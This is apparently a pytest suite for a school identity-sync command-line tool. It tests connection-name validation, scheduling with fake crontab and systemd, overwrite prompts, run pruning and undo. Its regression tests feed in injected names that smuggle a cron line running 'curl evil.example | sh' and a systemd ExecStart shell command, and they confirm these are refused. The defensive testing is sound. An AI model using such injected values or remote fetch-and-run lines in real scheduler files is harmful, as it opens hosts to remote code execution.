"""Issue 15 §3.1 and §3.4 (and issue 16 major 6), on the command line: connection names go through one
rule (core/setup/names.py) before anything is written; a schedule's task is named by a hash of the whole
name; saving over a connection asks; a schedule's guard rail is apply's; a missing OS scheduler says how
to fix it; pruning keeps what undo needs. The OS tools are a fake (nothing is scheduled on this machine);
the tenant is the sandbox, read back from its audit log."""

from __future__ import annotations

import io
import json

import pytest
from test_app_cli import _create, _new_apps
from test_schedule_cli import PROG, FakeRunner, cmd

from core.cli import main
from core.exits import EXIT_BAD_INPUT, EXIT_CANNOT_CONNECT, EXIT_OK, EXIT_SOME_FAILED
from core.graph.connection import Connection
from core.setup.names import ConnectionNameError, check_connection_name, few_names
from core.setup.profiles import ProfileStore
from core.setup.schedule import Schedule, schedule_precondition
from core.setup.scheduler import Completed, Scheduler, subprocess_runner
from core.setup.unattended import prune_runs

SOURCE = ["--source", "attribute:objectId", "--transform", "guid-base64"]
CLIENT = "11111111-1111-4111-8111-111111111111"
LONG = "Kommunala grundskolan i Norra skoldistriktet, "  # 46 characters, then they differ


class Crontab(FakeRunner):
    """A fake `crontab` that keeps what was installed, as the real one does."""

    def __init__(self):
        super().__init__()
        self.text = ""

    def __call__(self, argv, input_text=None):
        self.calls.append((list(argv), input_text))
        if argv == ["crontab", "-l"]:
            return Completed(0 if self.text else 1, self.text, "" if self.text else "no crontab for user")
        if argv == ["crontab", "-"]:
            self.text = input_text or ""
        return Completed(0, "", "")


def writes(tenant):
    return [e for e in tenant.audit() if e["method"] == "PATCH"]


def hand_saved(home, name, source=True):
    """A connection saved before the name rule (written into the file as an older version did)."""
    entry = {"name": name, "tenant_id": "school.example", "client_id": CLIENT, "cloud": "global"}
    if source:
        entry["source"] = {"kind": "attribute", "attribute": "objectId", "transform": "guid-base64"}
    path = home / "config" / "profiles.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"version": 1, "profiles": [entry], "last": {}}), "utf-8")
    return path


@pytest.mark.parametrize("name", ["Norra\nExecStart=/bin/sh -c evil", "Norra\r\n* * * * * evil", "A/B", "C:x",
                                  "CON", "nul.txt", " Norra", "Norra.", "-x", "a" * 65, "Norra\u202e",
                                  "%USERPROFILE%", ""])
def test_the_one_name_rule_refuses(name):
    with pytest.raises(ConnectionNameError) as caught:
        check_connection_name(name)
    assert caught.value.code.startswith("connection_name_") and caught.value.message
    assert isinstance(caught.value, ValueError)


@pytest.mark.parametrize("name", ["Norra skolan", "Nörd skola 100%", "Skola (test) #2", "a" * 64, "École Saint-Éloi"])
def test_the_one_name_rule_accepts(name):
    check_connection_name(name)


def test_the_newline_name_writes_nothing_anywhere(sandbox_profile_file, memory_keyring, isolated_home, tmp_path,
                                                  capsys, monkeypatch):
    """The security bug: a newline in the name added lines to the systemd unit and the crontab."""
    evil = "Norra\n* * * * * curl evil.example | sh"
    code = main(["connection", "save", evil, "--profile", str(sandbox_profile_file), *SOURCE])
    assert code == EXIT_BAD_INPUT
    assert "line break" in capsys.readouterr().err
    assert not (isolated_home / "config" / "profiles.json").exists()
    assert not memory_keyring.store  # nothing went to the keyring either
    # a name saved by an older version is refused by schedule install: no unit, no crontab line
    hand_saved(isolated_home, evil)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    for kind in ("systemd", "cron", "macos"):
        runner = Crontab()
        assert cmd(Scheduler(kind, runner, tmp_path, PROG, uid=501), "install", "--connection", evil) == EXIT_BAD_INPUT
        assert runner.calls == [] and runner.text == ""
    assert "connection save NEW-NAME" in capsys.readouterr().err  # how to rename
    assert not (tmp_path / "xdg").exists() and not (tmp_path / "Library").exists()
    with pytest.raises(ConnectionNameError):  # the wizard's path (Scheduler.install) refuses it too
        Scheduler("cron", Crontab(), tmp_path, PROG).install(Schedule(evil), ProfileStore())
    assert ProfileStore().attached(evil, "schedule") is None
    # ...but it can still be listed (with the fix) and deleted
    assert main(["connection", "list"]) == EXIT_OK
    assert "no longer accepted" in capsys.readouterr().out
    assert main(["connection", "delete", evil]) == EXIT_OK
    assert ProfileStore().names() == []


def test_two_long_names_get_two_tasks(isolated_home, tmp_path):
    first, second = LONG + "Ängskolan", LONG + "Åkerskolan"
    assert first[:40] == second[:40] and Schedule(first).slug != Schedule(second).slug
    store = ProfileStore()
    for name in (first, second):
        store.save(Connection("school.example", CLIENT, name=name))
        store.attach(name, "source", {"kind": "attribute", "attribute": "objectId"})
    cron = Crontab()
    scheduler = Scheduler("cron", cron, tmp_path, PROG)
    assert cmd(scheduler, "install", "--connection", first) == EXIT_OK
    assert cmd(scheduler, "install", "--connection", second, "--at", "03:00") == EXIT_OK
    lines = cron.text.splitlines()
    assert len(lines) == 2 and any(first in ln for ln in lines) and any(second in ln for ln in lines)
    assert cmd(scheduler, "remove", "--connection", first) == EXIT_OK
    (left,) = cron.text.splitlines()
    assert second in left and left.startswith("0 3 ")
    # systemd: two unit pairs on disk
    units = tmp_path / "units"
    import os
    os.environ["XDG_CONFIG_HOME"] = str(units)
    try:
        systemd = Scheduler("systemd", FakeRunner(), tmp_path, PROG)
        for name in (first, second):
            assert cmd(systemd, "install", "--connection", name) == EXIT_OK
        assert len(list((units / "systemd" / "user").glob("*.timer"))) == 2
    finally:
        del os.environ["XDG_CONFIG_HOME"]


def test_a_task_installed_before_hashed_names_is_replaced_and_removed(isolated_home, tmp_path):
    name = "Norra skolan"
    store = ProfileStore()
    store.save(Connection("school.example", CLIENT, name=name))
    store.attach(name, "source", {"kind": "attribute", "attribute": "objectId"})
    legacy = Schedule(name, legacy=True)
    cron = Crontab()
    cron.text = f"0 2 * * * old-command # immutableid-sync:{legacy.slug}\n5 5 * * * someone-else\n"
    store.attach(name, "schedule", {"at": "02:00", "every": "day", "kind": "cron"})  # as an older version saved it
    assert cmd(Scheduler("cron", cron, tmp_path, PROG), "install", "--connection", name) == EXIT_OK
    assert "old-command" not in cron.text and "someone-else" in cron.text
    assert cron.text.count("# immutableid-sync:") == 1
    cron.text += f"0 2 * * * old-command # immutableid-sync:{legacy.slug}\n"
    assert cmd(Scheduler("cron", cron, tmp_path, PROG), "remove", "--connection", name) == EXIT_OK
    assert cron.text == "5 5 * * * someone-else\n"


def test_saving_over_a_connection_asks_or_needs_force(sandbox, sandbox_profile_file, memory_keyring, isolated_home,
                                                      tmp_path, capsys, monkeypatch):
    save = ["connection", "save", "North", "--profile", str(sandbox_profile_file), *SOURCE]
    assert main(save) == EXIT_OK
    first_app = ProfileStore().get("North").client_id
    ProfileStore().attach("North", "schedule", {"at": "02:00", "every": "day", "kind": "cron"})
    before = (isolated_home / "config" / "profiles.json").read_text("utf-8")
    other = tmp_path / "other.json"
    other.write_text(json.dumps({**json.loads(sandbox_profile_file.read_text("utf-8")),
                                 "client_id": "22222222-2222-4222-8222-222222222222"}), "utf-8")
    again = ["connection", "save", "North", "--profile", str(other), *SOURCE]
    capsys.readouterr()
    assert main(again) == EXIT_BAD_INPUT  # not a terminal: refused
    err = capsys.readouterr().err
    assert "already saved" in err and "--force" in err and "scheduled" in err
    assert (isolated_home / "config" / "profiles.json").read_text("utf-8") == before

    class Tty(io.StringIO):
        def isatty(self):
            return True

    from core.cli import build_parser
    from core.commands import connection
    assert connection.run_save(build_parser().parse_args(again), stdin=Tty("n\n")) == EXIT_BAD_INPUT
    assert ProfileStore().get("North").client_id == first_app  # "n": unchanged
    assert connection.run_save(build_parser().parse_args(again), stdin=Tty("y\n")) == EXIT_OK
    assert ProfileStore().get("North").client_id == "22222222-2222-4222-8222-222222222222"
    assert main([*again[:3], "--profile", str(sandbox_profile_file), *SOURCE, "--force"]) == EXIT_OK
    assert ProfileStore().get("North").client_id == first_app
    assert ProfileStore().attached("North", "schedule")["at"] == "02:00"  # the schedule stays with it
    assert not writes(sandbox)


@pytest.mark.parametrize("value", ["nan", "inf", "-1", "0", "101"])
def test_schedule_guard_rail_is_apply_s_rule(value, sandbox, sandbox_profile_file, memory_keyring, isolated_home,
                                            tmp_path, capsys):
    assert main(["connection", "save", "North", "--profile", str(sandbox_profile_file), *SOURCE]) == EXIT_OK
    cron = Crontab()
    assert cmd(Scheduler("cron", cron, tmp_path, PROG), "install", "--connection", "North",
               "--max-percent", value) == EXIT_BAD_INPUT
    schedule_err = capsys.readouterr().err
    assert cron.calls == [] and ProfileStore().attached("North", "schedule") is None
    sandbox.clear_audit()
    assert main(["apply", "--unattended", "--connection", "North", "--max-percent", value]) == EXIT_BAD_INPUT
    apply_err = capsys.readouterr().err
    assert not writes(sandbox)
    sentence = "--max-percent must be a number above 0 and at most 100"
    assert sentence in schedule_err and sentence in apply_err
    with pytest.raises(ValueError):
        Schedule("North", max_writes=-1)


def test_a_missing_scheduler_says_how_to_fix_it(isolated_home, tmp_path, capsys, monkeypatch):
    store = ProfileStore()
    store.save(Connection("school.example", CLIENT, name="North"))
    store.attach("North", "source", {"kind": "attribute", "attribute": "objectId"})
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))  # no crontab anywhere
    code = cmd(Scheduler("cron", subprocess_runner, tmp_path, PROG), "install", "--connection", "North")
    err = capsys.readouterr().err
    assert code == EXIT_CANNOT_CONNECT
    assert "crontab was not found" in err and "apt-get install cron" in err and "Errno" not in err
    assert ProfileStore().attached("North", "schedule") is None


def test_both_faces_share_the_schedule_preconditions(isolated_home):
    store = ProfileStore()
    assert schedule_precondition(store, "Nowhere") == "schedule_not_saved"
    store.save(Connection("school.example", CLIENT, name="Bare"))
    assert schedule_precondition(store, "Bare") == "schedule_no_source"
    store.attach("Bare", "source", {"kind": "attribute", "attribute": "objectId"})
    assert schedule_precondition(store, "Bare") is None
    hand_saved(isolated_home, "Old\nname")
    assert schedule_precondition(ProfileStore(), "Old\nname") == "schedule_bad_name"


def test_unknown_connection_lists_a_few_names(isolated_home, capsys):
    store = ProfileStore()
    for i in range(12):
        store.save(Connection("school.example", CLIENT, name=f"Skola {i:02d}"))
    assert main(["apply", "--unattended", "--connection", "Nowhere"]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert '"Skola 04"' in err and '"Skola 05"' not in err and "and 7 more" in err
    assert few_names([]) == "none yet"


def test_pruning_keeps_the_journal_undo_needs(sandbox, sandbox_profile_file, memory_keyring, isolated_home, capsys):
    assert main(["connection", "save", "North", "--profile", str(sandbox_profile_file), *SOURCE,
                 "--keep-runs", "1"]) == EXIT_OK
    # the sandbox's admins fail (the app may not change them): exit 1, the others are set
    assert main(["apply", "--unattended", "--connection", "North", "--max-writes", "1000"]) == EXIT_SOME_FAILED
    written = sorted(e["path"] for e in writes(sandbox) if e["status"] < 300)  # the users it set, in the tenant
    assert written
    runs = isolated_home / "data" / "runs"
    (wrote,) = [p for p in runs.iterdir() if p.is_dir()]
    for _ in range(3):  # nightly no-ops: nothing left to write
        assert main(["apply", "--unattended", "--connection", "North"]) == EXIT_SOME_FAILED
    out = capsys.readouterr().out
    assert "Kept 1 older run folder" in out and str(wrote) in out
    assert (wrote / "journal.jsonl").exists()
    left = sorted(p for p in runs.iterdir() if p.is_dir())
    assert len(left) == 2 and left[0] == wrote  # the writing run and tonight's
    # undo --last still finds the writing run and clears what it set, in the tenant
    sandbox.clear_audit()
    assert main(["undo", "--last", "--profile", str(sandbox_profile_file), "--yes"]) == EXIT_OK
    assert sorted(e["path"] for e in writes(sandbox) if e["status"] < 300) == written
    assert all(e["body"] == {"onPremisesImmutableId": None} for e in writes(sandbox))
    conn = ProfileStore().get("North")
    after = prune_runs(conn, keep=1)
    assert wrote in after.pruned and not after.kept_for_undo  # undone now: it may go


# --- §3.5: smaller defects ------------------------------------------------------------------------------
def test_the_reminder_names_the_real_connection_and_a_working_command():
    from datetime import date

    from core.setup.reminder import reminder_ics

    unfolded = reminder_ics(date(2029, 11, 28), "school.example", CLIENT, "Immutable ID Sync",
                            connection_name="Norra skolan").replace("\r\n ", "")
    assert 'app renew --profile "Norra skolan"' in unfolded and "NAME" not in unfolded
    bare = reminder_ics(date(2029, 11, 28), "school.example", CLIENT, "Immutable ID Sync").replace("\r\n ", "")
    assert f"app renew --tenant school.example --client-id {CLIENT}" in bare and "NAME" not in bare


def test_a_duplicated_header_says_duplicated(tmp_path, capsys, isolated_home):
    schools = tmp_path / "schools.csv"
    schools.write_text("name,name,connection,source,match,key_column,value_column,transform,domains\n"
                       "A,B,x.json,attribute:objectId,,,,,\n", "utf-8")
    assert main(["batch", str(schools)]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert "more than once" in err and "name" in err and "lacks" not in err
    export = tmp_path / "idp.csv"
    export.write_text("UPN,UPN,Anchor\na@school.example,b,c\n", "utf-8")
    assert main(["preview", "--tenant", "school.example", "--client-id", CLIENT, "--source", f"csv:{export}",
                 "--match", "upn", "--key-column", "UPN", "--value-column", "Anchor"]) == EXIT_BAD_INPUT
    assert "more than one column in the header row has this name" in capsys.readouterr().err


def test_batch_problems_are_capped_with_a_count(tmp_path, capsys, isolated_home):
    schools = tmp_path / "schools.csv"
    rows = "".join(f"School {i},nowhere-{i},attribute:objectId,,,,,\n" for i in range(60))
    schools.write_text("name,connection,source,match,key_column,value_column,transform,domains\n" + rows, "utf-8")
    assert main(["batch", str(schools)]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert err.count("\n  line ") == 20 and "and 40 more problem(s) (60 in all)" in err


def test_a_closed_pipe_exits_quietly(isolated_home):
    """`immutableid-sync … | head -3`: no BrokenPipeError traceback, whatever the command (core/cli.py)."""
    import subprocess
    import sys

    profiles = [{"name": f"Skola {i:04d} i en kommun med ett långt namn", "tenant_id": "school.example",
                 "client_id": CLIENT, "cloud": "global"} for i in range(3000)]  # far more than a pipe holds
    (isolated_home / "config").mkdir(parents=True, exist_ok=True)
    (isolated_home / "config" / "profiles.json").write_text(json.dumps({"version": 1, "profiles": profiles}),
                                                            "utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "core.cli", "connection", "list"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    assert proc.stdout.readline().startswith(b"Skola 0000")
    proc.stdout.close()  # the reader goes away, as `head -1` does
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 141
    assert "Traceback" not in err and "BrokenPipe" not in err and "Exception ignored" not in err


def test_source_help_lists_the_attribute_names(capsys):
    from core.source.spec import ATTRIBUTE_NAMES

    for command in (["preview"], ["apply"], ["connection", "save"]):
        with pytest.raises(SystemExit):
            main([*command, "--help"])
        text = " ".join(capsys.readouterr().out.split())
        assert all(name in text for name in ATTRIBUTE_NAMES), command


@pytest.fixture
def app_tenant(sandbox_factory, browser, tmp_path):
    """test_app_cli's tenant: a sandbox whose admin signs in through the test browser."""
    made = sandbox_factory(users=12)
    browser.ca_bundle = made.ca_bundle
    made.profile_path = tmp_path / "tenant.json"
    made.profile_path.write_text(json.dumps(made.connection_profile()), encoding="utf-8")
    return made


def test_app_renew_names_the_app_and_its_reminder_the_connection(app_tenant, memory_keyring, tmp_path, capsys):
    tenant = app_tenant
    assert _create(tenant, "--name", "Norra skolans synk") == EXIT_OK
    (app,) = _new_apps(tenant)
    capsys.readouterr()
    reminder = tmp_path / "renew.ics"
    assert main(["app", "renew", "--profile", "School", "--reminder", str(reminder)]) == EXIT_OK
    out = capsys.readouterr().out
    assert "App registration ready: Norra skolans synk" in out  # the app's name in Entra, not the connection's
    assert len(app.passwords) == 2  # the tenant holds the new secret
    text = reminder.read_text("utf-8").replace("\r\n ", "")
    assert "Norra skolans synk" in text and 'app renew --profile "School"' in text


def test_a_batch_row_naming_a_saved_connection_with_an_old_bad_name_is_refused(tmp_path, capsys, isolated_home):
    hand_saved(isolated_home, "CON")  # saved before the name rule
    schools = tmp_path / "schools.csv"
    schools.write_text("name,connection,source,match,key_column,value_column,transform,domains\n"
                       "North,CON,attribute:objectId,,,,guid-base64,\n", "utf-8")
    assert main(["batch", str(schools), "--dry-run"]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert "no longer accepted" in err and 'connection delete "CON"' in err and "nothing was written" in err
